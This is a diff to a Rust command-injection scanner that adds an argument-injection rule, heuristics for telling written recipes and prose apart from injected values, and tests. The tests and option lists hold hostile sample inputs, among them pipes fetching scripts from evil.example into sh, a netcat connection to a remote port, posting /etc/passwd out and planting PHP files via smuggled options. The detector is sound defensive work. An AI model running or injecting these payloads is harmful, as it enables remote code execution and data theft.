@@ -116,6 +116,11 @@ pub(crate) static RULES: &[RuleInfo] = &[
         Severity::Critical,
         "Log4Shell-style ${jndi:...} lookup, including nested-lookup obfuscation",
     ),
+    rule(
+        "cmdi-argument-injection",
+        Severity::High,
+        "Option that runs a command or writes a file smuggled into a value (`x -TT 'sh -c id'`, `eth0 -z /tmp/x.sh`, `ext::sh -c`)",
+    ),
 ];
 
 const R_CHAIN: usize = 0;
@@ -132,6 +137,7 @@ const R_SSTI_RCE: usize = 10;
 const R_MAIL: usize = 11;
 const R_SHELLSHOCK: usize = 12;
 const R_JNDI: usize = 13;
+const R_ARGINJ: usize = 14;
 
 /// How much a command name alone says.
 #[derive(Clone, Copy, PartialEq, Eq, Debug)]
@@ -1759,12 +1765,23 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
     );
     let mut other_evidence = false;
     let mut opt = false;
+    // An interpreter's own options come before its program: after `-m
+    // module` or a script name, `-r`, `-c` and `-e` belong to that program
+    // (`python -m pip install -r requirements.txt`).
+    let mut interp_opts = kind == Kind::Interp;
     for (n, t) in tokens.by_ref().enumerate() {
         if looks_like_ip(t) || looks_like_host(t) || glob_sensitive(t) {
             a.strong = true;
         }
         if network && looks_like_domain(t) {
             domain = true;
+        } else if domain
+            && matches!(cmd, "nc" | "ncat" | "netcat" | "telnet")
+            && (2..=5).contains(&t.len())
+            && t.bytes().all(|x| x.is_ascii_digit())
+        {
+            // `nc evil.example 4444`: a raw connection to a host and port.
+            a.strong = true;
         }
         let bytes = t.as_bytes();
         let before = a.shellish;
@@ -1785,7 +1802,9 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
         {
             opt = true;
             a.shellish = true;
-            if kind == Kind::Interp
+            if interp_opts
+                // `-r` runs code for PHP only; Ruby's `-rlib` is one token.
+                && (t != "-r" || cmd.starts_with("php"))
                 && matches!(
                     t,
                     "-c" | "-e"
@@ -1816,6 +1835,9 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
                 if !after.is_empty() && module_ok {
                     a.strong = true;
                 }
+                if t == "-m" {
+                    interp_opts = false;
+                }
             }
         } else if windows_cmd
             && bytes.len() == 2
@@ -1826,6 +1848,14 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
             if cmd == "cmd" && matches!(bytes[1], b'c' | b'k') {
                 a.strong = true;
             }
+        } else if interp_opts
+            && [".py", ".pl", ".rb", ".js", ".php", ".lua", ".ps1"]
+                .iter()
+                .any(|x| t.ends_with(x))
+        {
+            // A script file: what follows are the script's arguments.
+            interp_opts = false;
+            a.shellish = true;
         } else if path_like(t)
             || t.contains(['\\', '>', '<'])
             || t.starts_with(['~', '$', '@', '+'])
@@ -1886,6 +1916,15 @@ fn decide(cmd: Cmd, ctx: Ctx, args: &Args) -> bool {
             (args.bare && cmd.bare) || evidence || glued_tool || subcommand || jargon
         }
         Ctx::Weak | Ctx::Start => {
+            // "ping 10.0.0.1 returns 'Request timed out', is the router
+            // down?", "whoami /groups shows whether you are an admin.": a
+            // command named at the start of a sentence that goes on in
+            // English is talked about. Only an interpreter handed code is
+            // still a command there.
+            let prose = args.sentence && args.stop_words >= 2 && args.prose_words >= 4;
+            if prose && !(cmd.kind == Kind::Interp && args.strong) {
+                return false;
+            }
             // A whole value or line that reads as one lower-case command line:
             // `pip install x`, `kubectl get pods -A`. Product names in prose are
             // capitalised or sit in sentences with function words.
@@ -2164,6 +2203,10 @@ fn check_command_at(
     if name == "tr" && ctx != Ctx::Subst {
         return false;
     }
+    // `db-$(date +%F).sql`: a time stamp for a file name, in any context.
+    if name == "date" && b.get(skip_blank(b, w.end, seg_end)) == Some(&b'+') {
+        return false;
+    }
     let brace = ctx == Ctx::Brace;
     // `{cat,/etc/passwd}`, `{,ifconfig}`; not `/users/{id}`.
     if brace && !(w.end < seg_end && (b[w.end] == b',' || (lead_comma && b[w.end] == b'}'))) {
@@ -2274,7 +2317,8 @@ fn check_command_at(
     }
     // "Use `curl -I https://example.com` to check the headers": a request
     // shown in prose that only reads a page writes nothing and runs nothing.
-    if effective == Ctx::Span
+    // At the start of a value or line, too: `curl -sS https://x/health | jq .status`.
+    if matches!(effective, Ctx::Span | Ctx::Start | Ctx::Weak)
         && args.net_only
         && name == "curl"
         && read_only_fetch(b, w.end, args.end)
@@ -2282,6 +2326,18 @@ fn check_command_at(
         return false;
     }
     if !decide(cmd, effective, &args) {
+        return false;
+    }
+    // `tar -xzf x.tar.gz && cd x && ./configure`, `systemctl status nginx |
+    // tail -5`: a value or line that opens with a harmless command line and
+    // goes on into further commands is a recipe written out whole. An
+    // injected value breaks out of the value before it; the later links
+    // are judged as links of a written pipeline, hostile ones still count.
+    if matches!(effective, Ctx::Start | Ctx::Weak)
+        && !args.strong
+        && cmd.kind != Kind::Recon
+        && written_pipeline(b, args.end, seg_end)
+    {
         return false;
     }
     let rule = if w.spliced || w.globbed || brace {
@@ -2301,6 +2357,62 @@ fn check_command_at(
     let end = trim_end(text, sep_start, end);
     push(hits, text, rule, sep_start, end);
     true
+}
+
+/// Whether a `|`, `||` or `&&` at `at` (after blanks) leads to another
+/// command word in lower case: the line is a pipeline or a sequence.
+fn written_pipeline(b: &[u8], at: usize, seg_end: usize) -> bool {
+    let p = skip_blank(b, at, seg_end);
+    let sep = match b.get(p..p + 2) {
+        Some([b'|', b'|'] | [b'&', b'&']) => 2,
+        Some([b'|', _]) => 1,
+        _ => return false,
+    };
+    let q = skip_blank(b, p + sep, seg_end);
+    // `&& ./configure`, `&& ./app`: a program the recipe just built or unpacked.
+    if b.get(q..q + 3)
+        .is_some_and(|x| x[0] == b'.' && x[1] == b'/' && x[2].is_ascii_alphanumeric())
+    {
+        return true;
+    }
+    if q >= seg_end || !b[q].is_ascii_lowercase() {
+        return false;
+    }
+    let w = read_word(b, q, seg_end);
+    if w.is_empty()
+        || w.spliced
+        || w.globbed
+        || (w.end < seg_end && matches!(b[w.end], b'=' | b'('))
+    {
+        return false;
+    }
+    let norm = w.norm();
+    DEV_TOOLS.contains(&norm) || resolve(norm, false).is_some()
+}
+
+/// Whether the value from `from` opens with a command line: a known tool
+/// name in lower case followed by an option (`mysqldump --single-transaction`).
+fn opens_command_line(b: &[u8], from: usize, seg_end: usize) -> bool {
+    let i = skip_blank(b, from, seg_end);
+    if i >= seg_end || !b[i].is_ascii_lowercase() {
+        return false;
+    }
+    let w = read_word(b, i, seg_end);
+    if w.is_empty() || w.spliced || w.globbed || w.end >= seg_end || b[w.end] != b' ' {
+        return false;
+    }
+    let j = skip_blank(b, w.end, seg_end);
+    let known = DEV_TOOLS.contains(&w.norm())
+        || resolve(w.norm(), false).is_some_and(|(_, c, path)| !path && c.kind != Kind::Weak);
+    // A lower-case word and a long option reads as a command line too
+    // (`pg_dump --clean`, `mysqldump --routines`).
+    let long = b
+        .get(j..j + 3)
+        .is_some_and(|o| o[0] == b'-' && o[1] == b'-' && o[2].is_ascii_lowercase())
+        && w.norm()
+            .bytes()
+            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, b'_' | b'-'));
+    (known && b.get(j) == Some(&b'-')) || long
 }
 
 /// Shell variables that hold a shell: `$SHELL -c "..."`.
@@ -3093,7 +3205,15 @@ fn scan_segment(
                     }
                 }
                 if i + 1 < seg_end && b[i + 1] == b'(' && !(i + 2 < seg_end && b[i + 2] == b'(') {
-                    check_command(text, i, i + 2, seg_end, Ctx::Subst, hits);
+                    // `mysqldump --all > db-$(date +%F).sql`: a substitution
+                    // inside a command line the value was written as is a
+                    // link of that line; only hostile content counts.
+                    let ctx = if opens_command_line(b, seg_start, seg_end) {
+                        Ctx::Chained
+                    } else {
+                        Ctx::Subst
+                    };
+                    check_command(text, i, i + 2, seg_end, ctx, hits);
                     i += 2;
                 } else {
                     let n = ifs_len(b, i);
@@ -3235,6 +3355,9 @@ fn read_only_fetch(b: &[u8], from: usize, end: usize) -> bool {
             && t[1..].bytes().all(|c| b"IiLsSvfk".contains(&c));
         if t.contains("://") {
             urls += 1;
+        } else if urls == 1 && t.bytes().all(|c| c.is_ascii_alphabetic()) {
+            // "curl -I https://x shows the headers only": prose after the
+            // request, which curl would only read as more host names.
         } else if !(short_display
             || matches!(
                 t,
@@ -4308,7 +4431,304 @@ pub(crate) fn scan(text: &str, hits: &mut Vec<Hit>) {
     if memchr::memmem::find(text.as_bytes(), b"${").is_some() {
         scan_jndi(text, hits);
     }
+    scan_argument_injection(text, hits);
     dedupe(hits, first);
+}
+
+/// What an option does when a program accepts it.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum OptRisk {
+    /// Runs the command given as its argument.
+    Exec,
+    /// Writes (or reads, for configuration) the file given as its argument.
+    File,
+}
+
+/// Options of common programs that run a command or write a file
+/// (`tar --checkpoint-action`, `zip -TT`, `tcpdump -z`, `sendmail -X`,
+/// `ssh -oProxyCommand`, `git --upload-pack`, `find -exec`, `rsync -e`,
+/// `curl -o`/`-K`, `wget -O`/`--post-file`, `psql -c`). Short options are
+/// case-sensitive, as the programs read them. `name` has no leading dashes
+/// and no `=value`.
+fn risky_option(long: bool, name: &str) -> Option<OptRisk> {
+    use OptRisk::*;
+    if long {
+        return match name.to_ascii_lowercase().as_str() {
+            "checkpoint-action"
+            | "to-command"
+            | "use-compress-program"
+            | "unzip-command"
+            | "upload-pack"
+            | "receive-pack"
+            | "rsh"
+            | "rsh-command"
+            | "rsync-path"
+            | "new-volume-script"
+            | "info-script"
+            | "exec"
+            | "eval"
+            | "command"
+            | "proxy-command"
+            | "ssh-command"
+            | "editor"
+            | "pager"
+            | "postrotate-command" => Some(Exec),
+            "output" | "output-document" | "post-file" | "body-file" | "upload-file"
+            | "log-file" | "logfile" | "output-file" | "append-output" | "config"
+            | "config-file" | "input-file" | "write-out-file" | "dump-header" => Some(File),
+            _ => None,
+        };
+    }
+    match name {
+        "TT" | "z" | "e" | "c" | "exec" | "execdir" | "ok" | "okdir" => Some(Exec),
+        "o" | "O" | "X" | "w" | "K" | "T" | "F" | "fprintf" | "fprint" | "fls" => Some(File),
+        _ => {
+            let l = name.to_ascii_lowercase();
+            // `-oProxyCommand=...`, `-oLocalCommand=...` (ssh, scp, sftp).
+            (l.starts_with("oproxycommand") || l.starts_with("olocalcommand")).then_some(Exec)
+        }
+    }
+}
+
+/// Whether an option argument names a file an attacker aims at: an
+/// absolute, home or drive path, or one that climbs.
+fn file_argument(a: &str) -> bool {
+    let a = a.trim_matches(['\'', '"']);
+    // `-OQueueDirectory=/tmp`: a setting whose value is the path.
+    let a = a.split_once('=').map_or(a, |(_, v)| v);
+    let b = a.as_bytes();
+    // A relative name (`-o docs/x.html`, `-o bin/app`) is a build writing
+    // its output; a planted file is aimed at an absolute place.
+    a.starts_with(['/', '~', '\\'])
+        || a.contains("../")
+        || (b.len() > 2
+            && b[0].is_ascii_alphabetic()
+            && b[1] == b':'
+            && matches!(b[2], b'/' | b'\\'))
+}
+
+/// Whether a file argument lands in a web root or a system directory, or
+/// is a server-side script: what a written option aims at to plant a shell.
+fn web_or_system_file(a: &str) -> bool {
+    let a = a.trim_matches(['\'', '"']).to_ascii_lowercase();
+    [
+        "/var/www",
+        "/srv/",
+        "wwwroot",
+        "htdocs",
+        "public_html",
+        "/etc/",
+        "/root/",
+    ]
+    .iter()
+    .any(|d| a.contains(d))
+        || [".php", ".phtml", ".jsp", ".jspx", ".asp", ".aspx", ".cgi"]
+            .iter()
+            .any(|x| a.ends_with(x))
+}
+
+/// Whether an option argument is a command line: a known command word
+/// (after quotes and an `exec=` style prefix) or a script path.
+fn command_argument(a: &str) -> bool {
+    let a = a.trim_start_matches(['\'', '"']);
+    let a = a.strip_prefix("exec=").unwrap_or(a);
+    let word: String = a
+        .bytes()
+        .take_while(|c| !matches!(c, b' ' | b'\t' | b'\'' | b'"' | b'=' | b','))
+        .map(|c| c.to_ascii_lowercase() as char)
+        .collect();
+    if word.is_empty() || word.len() > WORD_MAX {
+        return false;
+    }
+    if file_argument(&word) || word.starts_with("./") {
+        return true;
+    }
+    // `proxycommand=sh -c x`: the option names a setting whose value runs.
+    if let Some((_, v)) = a.split_once('=')
+        && !v.is_empty()
+        && command_argument(v)
+    {
+        return true;
+    }
+    resolve(&word, false).is_some_and(|(_, c, _)| {
+        c.kind != Kind::Weak || matches!(word.as_str(), "touch" | "cat" | "sleep" | "ping")
+    }) || DEV_TOOLS.contains(&word.as_str())
+}
+
+/// Options smuggled into a value that the application hands, as one
+/// argument list, to a program: `archive=out.zip -T -TT 'sh -c id'`,
+/// `iface=eth0 -z /tmp/x.sh`, `from=a@b.test -X/var/www/x.php`. The value
+/// opens with data (a file, host, interface or address, not a command
+/// word), and an option that runs a command or writes a file follows it
+/// with its argument. A command line someone wrote out opens with its
+/// command; prose has function words before the option. Also git's
+/// `ext::` transport, which runs its command.
+fn scan_argument_injection(text: &str, hits: &mut Vec<Hit>) {
+    let b = text.as_bytes();
+    let mut last_end = 0;
+    // Built once: a searcher per call costs more than most values' scan.
+    static OPTION: LazyLock<memchr::memmem::Finder<'static>> =
+        LazyLock::new(|| memchr::memmem::Finder::new(b" -"));
+    static EXT: LazyLock<memchr::memmem::Finder<'static>> =
+        LazyLock::new(|| memchr::memmem::Finder::new(b"ext::"));
+    for p in OPTION.find_iter(b) {
+        if p < last_end {
+            continue;
+        }
+        let o = p + 1;
+        // The option token.
+        let mut oe = o + 1;
+        while oe < b.len() && !matches!(b[oe], b' ' | b'\t' | b'\0' | b'\n' | b'\r' | b'&') {
+            oe += 1;
+        }
+        let Ok(tok) = std::str::from_utf8(&b[o..oe]) else {
+            continue;
+        };
+        let long = tok.starts_with("--");
+        let body = tok.trim_start_matches('-');
+        if body.is_empty() || !body.as_bytes()[0].is_ascii_alphabetic() {
+            continue;
+        }
+        let (name, glued) = match body.split_once('=') {
+            Some((n, v)) if long => (n, Some(v)),
+            _ => (body, None),
+        };
+        // Short options may carry their argument glued (`-X/var/x`, `-OQueueDirectory=/tmp`).
+        let (name, glued) = if !long && risky_option(false, name).is_none() && name.len() > 1 {
+            let k = name.chars().next().map_or(1, char::len_utf8);
+            (&name[..k], Some(&body[k..]))
+        } else {
+            (name, glued)
+        };
+        let Some(risk) = risky_option(long, name) else {
+            continue;
+        };
+        // `-oProxyCommand=sh -c x`: the setting's value is the argument.
+        let glued = glued.or_else(|| body.split_once('=').map(|(_, v)| v));
+        // The argument: glued, or the next token (a quoted one whole).
+        let (arg, arg_end) = match glued {
+            Some(v) if !v.is_empty() => (v.to_string(), oe),
+            _ => {
+                let s = skip_blank(b, oe, b.len());
+                if s >= b.len() {
+                    continue;
+                }
+                let e = if matches!(b[s], b'\'' | b'"') {
+                    b[s + 1..]
+                        .iter()
+                        .take(200)
+                        .position(|&c| c == b[s])
+                        .map_or(b.len().min(s + 201), |q| s + 2 + q)
+                } else {
+                    let mut e = s;
+                    while e < b.len()
+                        && !matches!(b[e], b' ' | b'\t' | b'\0' | b'\n' | b'\r' | b'&')
+                    {
+                        e += 1;
+                    }
+                    e
+                };
+                let Ok(a) = std::str::from_utf8(&b[s..e]) else {
+                    continue;
+                };
+                (a.to_string(), e)
+            }
+        };
+        let ok = match risk {
+            OptRisk::Exec => command_argument(&arg),
+            OptRisk::File => file_argument(&arg),
+        };
+        if !ok {
+            continue;
+        }
+        let Some(vs) = data_value_start(b, p) else {
+            continue;
+        };
+        // `"args": "build -o /tmp/out"` lists a tool's own arguments: an
+        // option that only writes a file needs a value that reads as data
+        // (a file, host, address or interface name) before it.
+        if risk == OptRisk::File
+            && !web_or_system_file(&arg)
+            && !b[vs..p]
+                .iter()
+                .take_while(|&&c| c != b' ')
+                .any(|&c| c.is_ascii_digit() || matches!(c, b'.' | b'@' | b':' | b'/' | b'_'))
+        {
+            continue;
+        }
+        last_end = arg_end;
+        push(hits, text, R_ARGINJ, vs, trim_end(text, vs, arg_end));
+    }
+    for p in EXT.find_iter(b) {
+        let w = read_word(b, p + 5, b.len().min(p + 5 + 200));
+        if !w.is_empty()
+            && (p == 0 || !b[p - 1].is_ascii_alphanumeric())
+            && resolve(w.norm(), w.globbed).is_some()
+        {
+            push(hits, text, R_ARGINJ, p, trim_end(text, p, w.end));
+        }
+    }
+}
+
+/// Where the value holding the option at `p` starts, when it opens with a
+/// data word followed only by options and their arguments: no command word
+/// first, no function words, at most a few tokens.
+fn data_value_start(b: &[u8], p: usize) -> Option<usize> {
+    let floor = p.saturating_sub(160);
+    let mut s = p;
+    while s > floor && !matches!(b[s - 1], b'\0' | b'\n' | b'\r' | b'&' | b'?') {
+        s -= 1;
+    }
+    if s == floor && floor > 0 {
+        return None;
+    }
+    // `key=value`: the value starts after the key's `=`.
+    let key = b[s..p]
+        .iter()
+        .take(40)
+        .position(|&c| c == b'=')
+        .filter(|&k| {
+            k > 0
+                && b[s..s + k].iter().all(|c| {
+                    c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'[' | b']')
+                })
+        });
+    let vs = key.map_or(s, |k| s + k + 1);
+    let vs = vs
+        + b[vs..p]
+            .iter()
+            .take_while(|&&c| matches!(c, b' ' | b'\t' | b'"' | b'\''))
+            .count();
+    let head = std::str::from_utf8(&b[vs..p]).ok()?;
+    let mut toks = head.split_ascii_whitespace();
+    let first = toks.next()?;
+    if first.starts_with('-') {
+        return None;
+    }
+    // A command line written out opens with its command.
+    let lower = first.to_ascii_lowercase();
+    if resolve(&lower, false).is_some() || DEV_TOOLS.contains(&lower.as_str()) {
+        return None;
+    }
+    // A capitalised word opens a sentence.
+    if first.as_bytes()[0].is_ascii_uppercase()
+        && first.bytes().skip(1).all(|c| c.is_ascii_lowercase())
+    {
+        return None;
+    }
+    let mut plain = 0;
+    for t in head.split_ascii_whitespace() {
+        let w = t
+            .trim_end_matches(['.', ',', ':', ';'])
+            .to_ascii_lowercase();
+        if STOP_WORDS.contains(&w.as_str()) {
+            return None;
+        }
+        if !t.starts_with('-') {
+            plain += 1;
+        }
+    }
+    (plain <= 3).then_some(vs)
 }
 
 /// Globbed absolute paths such as `/???/c?t` or `/b??/n?`: never prose.
@@ -4472,6 +4892,85 @@ mod tests {
 
     fn flagged(text: &str) -> bool {
         !rules(text).is_empty()
+    }
+
+    #[test]
+    fn options_smuggled_into_values() {
+        for t in [
+            "file=report.zip -T --unzip-command='sh -c whoami'",
+            "archive=a.zip -TT \"bash -c id\"",
+            "iface=wlan0 -z /var/tmp/run.sh -G 5",
+            "sender=ops@example.org -X/var/www/html/log.php",
+            "to=a@example.org -OQueueDirectory=/var/tmp -X /srv/www/x.php",
+            "dest=db.example.org -oProxyCommand=sh -c 'curl x'",
+            "name=backup.tar --checkpoint=1 --checkpoint-action=exec=sh run.sh",
+            "branch=main --upload-pack=touch /tmp/x",
+            "dir=src -exec sh -c id ;",
+            "src=files/ -e 'sh -c id' dst/",
+            "url=https://example.org/a -o /var/www/html/x.php",
+            "url=https://example.org/a --post-file=/etc/passwd",
+            "db=app -c 'bash -i'",
+            "remote=ext::bash -c whoami",
+            "{\"iface\":\"eth1 -z /tmp/p.sh\"}",
+        ] {
+            assert!(
+                rules(t).contains(&"cmdi-argument-injection"),
+                "missed {t:?}: {:?}",
+                rules(t)
+            );
+        }
+        for t in [
+            "tar -czf backup.tar.gz -C /srv/www .",
+            "gcc -o /tmp/a.out main.c",
+            "Use the -o /tmp/out.txt flag to write the output somewhere else",
+            "pass -e to make grep treat the next word as a pattern",
+            "The ext:: transport is disabled by default since git 2.12",
+            "price=10 -o",
+            "range=2020 - 2024",
+            "q=state-of-the-art -e sports",
+            "name=Mary-Jane -X",
+            // A JSON body's key and value, as the engine hands them over.
+            "args\0build -o /tmp/out",
+            "README.md -o docs/README.html is how pandoc is called",
+            "main.go -o bin/app",
+        ] {
+            assert!(
+                !rules(t).contains(&"cmdi-argument-injection"),
+                "flagged {t:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn written_recipes_are_documentation() {
+        for t in [
+            "tar -xzf app-1.0.tar.gz && cd app-1.0 && make",
+            "systemctl status sshd --no-pager | head -20",
+            "curl -fsS https://status.example.org/api | jq .",
+            "Run `python3 -m pip install -r dev-requirements.txt` first.",
+            "Our build step: `python -m pip install -r requirements.txt && pytest -q`",
+            "pg_dump --clean app > app-$(date +%Y%m%d).sql runs every night",
+            "ping 10.0.0.1 gives 'Destination host unreachable', is the gateway down?",
+            "whoami /priv lists the privileges your token holds in this session.",
+            "chmod +x ./setup.sh && ./setup.sh --prefix /opt/app",
+            "backup name: db-$(date +%Y-%m-%d).tar.gz",
+            "curl -I https://example.com shows the headers only",
+        ] {
+            assert!(!flagged(t), "flagged {t:?}: {:?}", rules(t));
+        }
+        // Hostile links, breakouts and substitutions still count.
+        for t in [
+            "tar -xzf a.tgz && curl http://evil.example/x.sh | sh",
+            "mysqldump --all > x-$(whoami).sql",
+            "pg_dump --clean app > $(cat /etc/passwd).sql",
+            "curl -s http://evil.example/x | bash",
+            "ls -la | nc evil.example 4444",
+            "host=10.0.0.1; ping -c 3 127.0.0.1",
+            "php -r 'system(\"id\");'",
+            "python -c 'import os; os.system(\"id\")'",
+        ] {
+            assert!(flagged(t), "missed {t:?}");
+        }
     }
 
     #[test]
